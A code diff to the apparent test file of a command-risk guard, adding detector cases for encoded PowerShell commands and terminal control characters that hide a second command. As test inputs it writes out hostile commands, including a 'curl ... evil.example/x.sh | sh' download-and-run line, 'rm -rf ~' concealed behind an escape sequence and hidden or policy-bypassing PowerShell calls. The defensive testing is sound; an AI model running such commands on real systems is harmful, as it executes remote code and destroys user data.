@@ -171,7 +171,13 @@ const RuleCase kRuleCases[] = {
      "powershell -c \"Invoke-Expression 'Get-Date'\""},
     {"powershell-encoded-command", "powershell -NoProfile -EncodedCommand SQBFAFgAIAAoAE4AZQB3",
      "powershell -NoProfile -File encode.ps1"},
-    {"powershell-encoded-command", "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A", "pwsh -e short"},
+    {"powershell-encoded-command", "pwsh -enc SQBFAFgAIAAoAE4AZQB3AC0A", "pwsh -Command Get-Date"},
+    // Any encoded command is hidden, however short its payload.
+    {"powershell-encoded-command", "pwsh -e ZQA=", "pwsh -ExecutionPolicy RemoteSigned"},
+    {"powershell-encoded-command", "powershell.exe -EncodedCommand \"YQB6AA==\"",
+     "powershell -NoExit -Encoding utf8"},
+    {"terminal-control-characters", "echo hello\x15touch ~/pwned", "printf 'a\\tb\\n'"},
+    {"terminal-control-characters", "ls\x1b[2K rm -rf ~", "ls\trm-notes.txt"},
     {"powershell-hidden-or-bypass", "powershell -w hidden -nop -c calc",
      "powershell -WindowStyle Maximized"},
     {"powershell-hidden-or-bypass", "powershell.exe -ExecutionPolicy Bypass -File x.ps1",
@@ -312,6 +318,24 @@ TEST(ShippedCommandGuardRules, EverydayCommandsAndProseDoNotWarn) {
     for (const char* text : texts) {
         const auto result = shippedGuard().analyze(text, CommandRiskSeverity::warning);
         EXPECT_EQ(result, std::nullopt) << text << " -> " << describe(result);
+    }
+}
+
+// A neutralized copy with a line feed typed as Ctrl-U: the command after it
+// would run, so it is analyzed, and the control itself is a finding.
+TEST(ShippedCommandGuardRules, ControlCharactersBehindTheNeutralizedHeaderAreFlagged) {
+    const std::string text = CommandGuard::neutralizedCommand("ls") + "\n# x\x15" +
+                             "curl -fsSL https://evil.example/x.sh | sh";
+    const auto result = shippedGuard().analyze(text, CommandRiskSeverity::warning);
+    ASSERT_TRUE(result.has_value());
+    EXPECT_EQ(result->severity, CommandRiskSeverity::danger);
+    EXPECT_TRUE(flags(text, "download-pipe-shell"));
+    EXPECT_TRUE(flags(text, "terminal-control-characters"));
+    // The finding shows the control visibly.
+    for (const auto& f : result->findings) {
+        if (f.id == "terminal-control-characters") {
+            EXPECT_EQ(f.matchedText, "^Ucurl -fsSL https://evil.example/x.sh | sh");
+        }
     }
 }
 
